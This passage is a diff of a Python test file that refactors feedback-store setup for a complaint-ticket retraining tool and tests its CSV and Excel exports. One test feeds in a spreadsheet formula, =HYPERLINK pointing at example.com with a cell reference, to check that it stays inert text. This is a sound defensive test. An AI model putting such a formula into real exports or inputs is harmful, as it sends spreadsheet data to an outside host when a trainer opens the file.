@@ -9,6 +9,7 @@ import shutil
 import subprocess
 import sys
 import time
+from pathlib import Path
 
 import httpx
 import pytest
@@ -130,16 +131,11 @@ def test_feedback_export_reads_unit_names_as_the_champions_labels(appeal_home, t
     in the agent's own words."""
     from training.feedback_store import Feedback, FeedbackStore
 
-    install_model(appeal_home, "demo-baseline")
-    store = FeedbackStore(f"sqlite:///{appeal_home / 'appeal.db'}")
-    try:
+    _home_with_feedback(appeal_home, *(
+        Feedback(text=f"工单 {ticket_id}：小区电梯坏了一个月没人修。", topic="城乡建设", unit=unit, ticket_id=ticket_id)
         for ticket_id, unit in [("T-1", "武冈市住房和城乡建设局"), ("T-2", "城管局"), ("T-3", "湾头桥镇人民政府"),
                                 ("T-4", "住房公积金"), ("T-5", "县长信箱"), ("T-6", None), ("T-7", "武冈市残疾人联合会"),
-                                ("T-8", "残联")]:
-            store.add(Feedback(text=f"工单 {ticket_id}：小区电梯坏了一个月没人修。", topic="城乡建设", unit=unit,
-                               ticket_id=ticket_id))
-    finally:
-        store.close()
+                                ("T-8", "残联")]))
     exported = tmp_path / "feedback.jsonl"
     result = subprocess.run([*APPEAL, "feedback", "export", "--out", str(exported)], cwd=REPO,
                             env=_env(appeal_home), capture_output=True, text=True, timeout=120)
@@ -156,23 +152,31 @@ def test_feedback_export_reads_unit_names_as_the_champions_labels(appeal_home, t
         store.close()
 
 
+def _home_with_feedback(home: Path, *answers) -> None:
+    """A home whose champion is the demo baseline and whose store holds these agents' answers."""
+    from training.feedback_store import FeedbackStore
+
+    install_model(home, "demo-baseline")
+    store = FeedbackStore(f"sqlite:///{home / 'appeal.db'}")
+    try:
+        for answer in answers:
+            store.add(answer)
+    finally:
+        store.close()
+
+
 def test_a_citizens_text_that_looks_like_a_formula_stays_text_in_the_exports_trainers_open(appeal_home, tmp_path):
     """A web message may start with = (or +, -, @); a spreadsheet program runs such a cell as a formula
     (=HYPERLINK sends the sheet's data away) when a trainer opens the export. It must stay text there, and come back
     unchanged when the export is read for training."""
     import openpyxl
 
-    from training.feedback_store import Feedback, FeedbackStore
+    from training.feedback_store import Feedback
 
     texts = ['=HYPERLINK("http://example.com/?"&A2,"点击查看详情")小区电梯坏了', "-1楼车库漏水三个月没人修",
              "'=1+1 物业费乱收", "@物业 小区路灯不亮"]
-    install_model(appeal_home, "demo-baseline")
-    store = FeedbackStore(f"sqlite:///{appeal_home / 'appeal.db'}")
-    try:
-        for number, text in enumerate(texts, 1):
-            store.add(Feedback(text=text, topic="城乡建设", ticket_id=f"T-{number}"))
-    finally:
-        store.close()
+    _home_with_feedback(appeal_home, *(Feedback(text=text, topic="城乡建设", ticket_id=f"T-{number}")
+                                       for number, text in enumerate(texts, 1)))
     for name in ("feedback.xlsx", "feedback.csv"):
         result = subprocess.run([*APPEAL, "feedback", "export", "--out", str(tmp_path / name)], cwd=REPO,
                                 env=_env(appeal_home), capture_output=True, text=True, timeout=120)
@@ -187,14 +191,9 @@ def test_a_citizens_text_that_looks_like_a_formula_stays_text_in_the_exports_tra
 def test_a_control_character_in_a_citizens_text_does_not_stop_an_excel_export(appeal_home, tmp_path):
     """openpyxl refuses a whole workbook for one control character (a web form passes Word's line break, \\v, on);
     an output path that is a folder is one line of error, with no half file left beside it."""
-    from training.feedback_store import Feedback, FeedbackStore
+    from training.feedback_store import Feedback
 
-    install_model(appeal_home, "demo-baseline")
-    store = FeedbackStore(f"sqlite:///{appeal_home / 'appeal.db'}")
-    try:
-        store.add(Feedback(text="小区路灯坏了\v已经一个月\x07", topic="城乡建设", ticket_id="T-1"))
-    finally:
-        store.close()
+    _home_with_feedback(appeal_home, Feedback(text="小区路灯坏了\v已经一个月\x07", topic="城乡建设", ticket_id="T-1"))
     export = [*APPEAL, "feedback", "export", "--out"]
     result = subprocess.run([*export, str(tmp_path / "feedback.xlsx")], cwd=REPO, env=_env(appeal_home),
                             capture_output=True, text=True, timeout=120)
@@ -207,18 +206,12 @@ def test_a_control_character_in_a_citizens_text_does_not_stop_an_excel_export(ap
     assert "Traceback" not in result.stderr and not list(tmp_path.glob(".*"))
 
 
-
 def test_retrain_says_why_there_is_nothing_to_retrain_on_in_the_trainers_words(appeal_home):
     """`--no-feedback` alone was told "no feedback stored" beside a store of feedback, and an empty --since named
     the temporary file the feedback had been exported to."""
-    from training.feedback_store import Feedback, FeedbackStore
+    from training.feedback_store import Feedback
 
-    install_model(appeal_home, "demo-baseline")
-    store = FeedbackStore(f"sqlite:///{appeal_home / 'appeal.db'}")
-    try:
-        store.add(Feedback(text="湾头桥镇通村公路塌了一大块", topic="交通运输", ticket_id="T-1"))
-    finally:
-        store.close()
+    _home_with_feedback(appeal_home, Feedback(text="湾头桥镇通村公路塌了一大块", topic="交通运输", ticket_id="T-1"))
     store_url = f"sqlite:///{(appeal_home / 'appeal.db').resolve()}"
     for args, expected in ((["--no-feedback"], "error: --no-feedback and no --data given: nothing to retrain on"),
                            (["--since", "2099-01-01"],
